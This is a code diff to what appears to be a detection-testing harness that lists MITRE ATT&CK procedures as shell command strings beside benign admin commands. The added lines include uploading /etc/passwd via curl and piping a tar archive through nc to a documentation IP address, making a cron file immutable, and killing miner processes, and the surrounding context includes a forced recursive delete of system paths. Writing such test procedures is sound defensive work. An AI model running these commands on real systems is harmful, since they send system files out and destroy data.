@@ -145,6 +145,15 @@ PROCEDURES = [
      "mkdir -p /var/tmp/.art && cp /bin/true /var/tmp/.art/.hidden && /var/tmp/.art/.hidden"),
     # T1222.002 / T1485: wipe of a system path
     ("rm-rf-system", "T1485", "rm -rf --no-preserve-root /usr/local/share/art-victim /etc/art-victim"),
+    # T1048 Exfiltration over an alternative protocol (the address is a documentation one:
+    # the upload fails, the attempt is what counts)
+    ("curl-upload", "T1048", "curl -s --max-time 1 -T /etc/passwd ftp://198.51.100.7/in/; true"),
+    ("tar-to-nc", "T1048", "timeout 2 bash -c 'tar czf - /etc/hostname | nc -w 1 198.51.100.7 9000'; true"),
+    # T1222.002 Linux file permissions: persistence made immutable (bots, droppers)
+    ("chattr-immutable-cron", "T1222.002",
+     "touch /etc/cron.d/art-locked; chattr +i /etc/cron.d/art-locked; chattr -i /etc/cron.d/art-locked; true"),
+    # T1489 Service stop: competing miners killed
+    ("kill-competing-miner", "T1489", "pkill -f kdevtmpfsi; killall -9 xmrig; true"),
     # T1531 Account access removal
     ("userdel", "T1531", "userdel art"),
 ]
@@ -174,6 +183,8 @@ ADMIN = [
     ("touch-file", "touch /root/notes.txt"),
     ("sed-config", "sed -i 's/maintenance/Maintenance/' /etc/motd"),
     ("find-config", "find /etc -name '*.conf' > /dev/null"),
+    ("api-post-local", "curl -s --max-time 1 -d @/etc/hostname http://127.0.0.1:{port}/index.html > /dev/null; true"),
+    ("reload-daemon", "pkill -HUP rsyslogd; true"),
 ]
 
 
